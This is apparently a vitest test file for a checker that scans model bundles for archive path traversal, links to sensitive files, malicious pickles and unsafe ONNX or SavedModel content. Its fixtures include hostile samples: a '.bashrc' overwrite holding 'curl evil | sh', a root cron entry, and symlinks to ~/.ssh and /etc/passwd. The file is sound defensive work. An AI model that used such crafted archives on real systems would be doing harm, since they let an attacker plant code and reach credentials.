import { gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { modelFileSafety } from '../src/checks/model-file-safety.js';
import { memberNameEscape, tarMemberEscape } from '../src/formats/archive-members.js';
import { runRuleOn, summarise } from './helpers/repo.js';
import { callPickle, makeZip, torchZip } from './pickle-fixtures.js';
import { tar } from './tar-fixtures.js';
import { ARITHMETIC, onnxModel, savedModel } from './proto-fixtures.js';

const WEIGHTS = Buffer.concat([Buffer.from([2, 0, 0, 0, 0, 0, 0, 0]), Buffer.from('{}')]);
const run = async (path: string, bytes: Buffer) => runRuleOn(modelFileSafety, { [path]: bytes });

describe('archive members that escape the extraction directory', () => {
  const tars: Array<[string, Parameters<typeof tar>[0], RegExp]> = [
    ['a member climbing out', [{ name: 'model/../../.bashrc', data: Buffer.from('curl evil | sh\n') }], /tar member "model\/\.\.\/\.\.\/\.bashrc": climbs out with '\.\.'/],
    ['an absolute member', [{ name: '/etc/cron.d/job', data: Buffer.from('* * * * * root id\n') }], /is an absolute path/],
    ['a symlink member', [{ name: 'model/weights', data: Buffer.alloc(0), type: '2', linkname: '/home/runner/.ssh' }], /is a symbolic link to "\/home\/runner\/\.ssh"/],
    ['a hard link member', [{ name: 'model/h', data: Buffer.alloc(0), type: '1', linkname: '../../etc/passwd' }], /is a hard link/],
  ];
  it.each(tars)('%s in a tar bundle is an error', async (_n, entries, says) => {
    const found = await run('models/bundle.tar', tar([{ name: 'model/model.safetensors', data: WEIGHTS }, ...entries]));
    expect(summarise(found)).toEqual(['archive-member-escape@models/bundle.tar']);
    expect(found[0]!.message).toMatch(says);
    expect(found[0]!.message).toMatch(/Re-create the archive with relative member names and no links$/);
  });

  it('inside a .tar.gz too', async () => {
    const found = await run('models/bundle.tar.gz', gzipSync(tar([{ name: '../x.py', data: Buffer.from('import os\n') }])));
    expect(summarise(found)).toEqual(['archive-member-escape@models/bundle.tar.gz']);
    expect(found[0]!.message).toMatch(/gzip-decompressed content, tar member "\.\.\/x\.py"/);
  });

  const zips: Array<[string, string, RegExp]> = [
    ['a member climbing out', '../../home/runner/.profile', /climbs out/],
    ['a backslash climb', 'model\\..\\..\\evil.py', /climbs out/],
    ['an absolute member', '/usr/lib/python3/sitecustomize.py', /absolute/],
    ['a Windows drive', 'C:/Windows/evil.dll', /Windows drive/],
  ];
  it.each(zips)('%s in a zip bundle is an error', async (_n, name, says) => {
    const found = await run('models/bundle.zip', makeZip([{ name: 'model/config.txt', data: Buffer.from('ok') }, { name, data: Buffer.from('x') }]));
    expect(summarise(found)).toEqual(['archive-member-escape@models/bundle.zip']);
    expect(found[0]!.message).toMatch(says);
  });

  it('an escaping member that is also a malicious pickle gets both findings', async () => {
    const found = await run('models/bundle.tar', tar([{ name: '../evil.pkl', data: callPickle('os', 'system') }]));
    expect(summarise(found)).toEqual(['archive-member-escape@models/bundle.tar', 'dangerous-global@models/bundle.tar']);
  });

  it('benign bundles pass: relative names, directories, a PyTorch checkpoint inside', async () => {
    const t = tar([{ name: 'model/', data: Buffer.alloc(0), type: '5' }, { name: 'model/model.safetensors', data: WEIGHTS }, { name: 'model/ckpt.pt', data: torchZip() }, { name: './model/README..md', data: Buffer.from('# hi') }]);
    expect(await run('models/bundle.tar', t)).toEqual([]);
    expect(await run('models/bundle.tar.gz', gzipSync(t))).toEqual([]);
    expect(await run('models/bundle.zip', makeZip([{ name: 'model/', data: Buffer.alloc(0) }, { name: 'model/weights.safetensors', data: WEIGHTS }, { name: 'model/..hidden', data: Buffer.from('x') }]))).toEqual([]);
  });

  it('every truncation of a bundle is a finding or nothing, never a crash', async () => {
    const t = tar([{ name: 'ok.txt', data: Buffer.from('hello') }, { name: '../bad', data: Buffer.from('x'.repeat(700)) }]);
    for (let n = 1; n < t.length; n += 97) {
      const found = await run('models/bundle.tar', t.subarray(0, n));
      for (const f of found) expect(['archive-member-escape', 'malformed', 'budget-exceeded']).toContain(f.code);
    }
  }, 60_000);
});

describe('models inside bundles', () => {
  it('an ONNX member whose external data climbs out of its directory is an error, named by member', async () => {
    const found = await run('models/bundle.tar', tar([{ name: 'net/model.onnx', data: onnxModel({ tensors: [{ name: 'w', location: '../../secret' }] }) }]));
    expect(summarise(found)).toEqual(['onnx-external-data@models/bundle.tar']);
    expect(found[0]!.message).toMatch(/^member "net\/model\.onnx": has tensor "w"/);
  });

  it('a deflated SavedModel member with a ReadFile op is an error', async () => {
    const zip = makeZip([{ name: 'sm/saved_model.pb', data: savedModel([{ name: 'r', op: 'ReadFile' }]), method: 8 }, { name: 'sm/variables/variables.index', data: Buffer.alloc(8) }]);
    const found = await run('models/bundle.zip', zip);
    expect(summarise(found)).toEqual(['savedmodel-unsafe-op@models/bundle.zip']);
    expect(found[0]!.message).toMatch(/^member "sm\/saved_model\.pb": meta graph 0/);
  });

  it('a bundle of benign ONNX and SavedModel members passes', async () => {
    const t = tar([{ name: 'net/model.onnx', data: onnxModel({ tensors: [{ name: 'w', location: 'model.onnx.data' }] }) }, { name: 'net/model.onnx.data', data: Buffer.alloc(64) }, { name: 'sm/saved_model.pb', data: savedModel(ARITHMETIC) }]);
    expect(await run('models/bundle.tar', t)).toEqual([]);
  });
});

describe('member name rules', () => {
  const segment = fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,12}$/).filter((s) => s !== '..' && !/^[A-Za-z]:/.test(s));

  it('relative names of ordinary segments never escape', () => {
    fc.assert(fc.property(fc.array(segment, { minLength: 1, maxLength: 6 }), fc.constantFrom('/', '\\'), (parts, sep) => memberNameEscape(parts.join(sep)) === undefined));
  });

  it('any name with a .. segment, a leading slash or a drive escapes', () => {
    fc.assert(
      fc.property(fc.array(segment, { maxLength: 4 }), fc.array(segment, { maxLength: 4 }), fc.constantFrom('..', '/', '\\', 'D:'), (a, b, bad) => {
        const name = bad === '..' ? [...a, '..', ...b].join('/') : `${bad}${[...a, ...b].join('/')}`;
        return memberNameEscape(name) !== undefined;
      }),
    );
  });

  it('links escape whatever their name; other types do not', () => {
    expect(tarMemberEscape({ name: 'a', type: '2', linkname: 'b' })).toMatch(/symbolic link/);
    expect(tarMemberEscape({ name: 'a', type: '1', linkname: 'b' })).toMatch(/hard link/);
    for (const type of ['0', '\0', '5', '7', 'S', 'x']) expect(tarMemberEscape({ name: 'a/b', type, linkname: '' })).toBeUndefined();
  });
});
